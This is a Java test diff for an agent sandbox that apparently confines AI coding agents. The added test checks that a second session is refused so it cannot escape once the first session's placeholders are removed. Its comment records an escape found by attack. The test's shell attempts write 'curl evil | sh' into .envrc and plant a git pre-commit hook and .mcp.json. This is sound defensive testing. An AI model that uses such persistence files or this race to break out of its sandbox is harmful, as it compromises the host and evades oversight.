@@ -11,6 +11,8 @@ import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.List;
 import java.util.concurrent.CompletableFuture;
+import java.util.concurrent.ExecutorService;
+import java.util.concurrent.Executors;
 import java.util.concurrent.TimeUnit;
 import java.util.stream.Stream;
 import org.junit.jupiter.api.Test;
@@ -171,6 +173,65 @@ class ProtectedPathsTest {
         assertEquals("ran", next.probes().get("next"), next::describe);
         assertTrue(next.err().contains("did not end"), next::describe);
         assertFalse(Files.exists(left), () -> ".mcp.json is still there: " + list(p));
+    }
+
+    @Test
+    void aSecondSessionOnTheProjectOrInsideItIsRefusedSoItCannotOutliveTheFirstsPlaceholders() throws Exception {
+        // Found by attack: session B started on the project while A ran, A ended and removed its placeholders, and
+        // the kernel took those mount points off B's jail too; B's agent then wrote .envrc and .git/hooks into the
+        // host's project while B still ran.
+        AgentjailRun.requireBwrap();
+        AgentjailRun first = AgentjailRun.in(dir);
+        Path p = first.project();
+        write(p.resolve(".agentjail.yaml"), "version: 1\n");
+        Files.createDirectories(p.resolve("sub"));
+        String attempts = """
+                echo 'curl evil | sh' > .envrc; echo "envrc=$?"
+                mkdir -p .git/hooks 2>/dev/null && echo x > .git/hooks/pre-commit; echo "hook=$?"
+                echo '{}' > .mcp.json; echo "mcp=$?"
+                """;
+        // Threads of their own: the common pool may have one thread on two cores, and both sessions block.
+        ExecutorService threads = Executors.newVirtualThreadPerTaskExecutor();
+        CompletableFuture<AgentjailRun.Outcome> a =
+                CompletableFuture.supplyAsync(() -> first.bash("""
+                        touch a-started
+                        i=0; while [ ! -e go ] && [ $i -lt 600 ]; do sleep 0.1; i=$((i+1)); done
+                        """ + attempts), threads);
+        awaitFile(p.resolve("a-started"), a);
+        CompletableFuture<AgentjailRun.Outcome> b =
+                CompletableFuture.supplyAsync(() -> AgentjailRun.in(dir).bash("""
+                        touch b-started
+                        i=0; while [ ! -e a-done ] && [ $i -lt 600 ]; do sleep 0.1; i=$((i+1)); done
+                        """ + attempts));
+        awaitFile(p.resolve("b-started"), b);
+        AgentjailRun.Outcome inside =
+                AgentjailRun.in(dir).project(p.resolve("sub")).run("/bin/sh", "-c", "echo inside=ran");
+        Files.createFile(p.resolve("go"));
+        AgentjailRun.Outcome aDone = a.get(60, TimeUnit.SECONDS);
+        Files.createFile(p.resolve("a-done"));
+        AgentjailRun.Outcome bDone = b.get(60, TimeUnit.SECONDS);
+        threads.shutdown();
+
+        assertEquals(2, bDone.exitCode(), bDone::describe);
+        assertTrue(bDone.err().contains("another agentjail session is running on " + p), bDone::describe);
+        assertFalse(bDone.probes().containsKey("envrc"), bDone::describe);
+        assertEquals(2, inside.exitCode(), inside::describe);
+        assertTrue(inside.err().contains("around " + p.resolve("sub")), inside::describe);
+        assertEquals(0, aDone.exitCode(), aDone::describe);
+        assertAll(Stream.of("envrc", "hook", "mcp").map(name -> (Executable)
+                () -> assertNotEquals("0", aDone.probe(name), () -> name + " succeeded; " + aDone.describe())));
+        assertEquals(List.of(".agentjail.yaml", "a-done", "a-started", "go", "sub"), entries(p));
+
+        AgentjailRun.Outcome after = AgentjailRun.in(dir).run("/bin/sh", "-c", "echo after=ran");
+        assertEquals("ran", after.probes().get("after"), after::describe);
+    }
+
+    /** Waits (bounded) for {@code file}, or for {@code session} to end without making it. */
+    private static void awaitFile(Path file, CompletableFuture<?> session) throws InterruptedException {
+        long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(60);
+        while (!Files.exists(file) && !session.isDone() && System.nanoTime() < deadline) {
+            Thread.sleep(50);
+        }
     }
 
     private static String list(Path dir) {
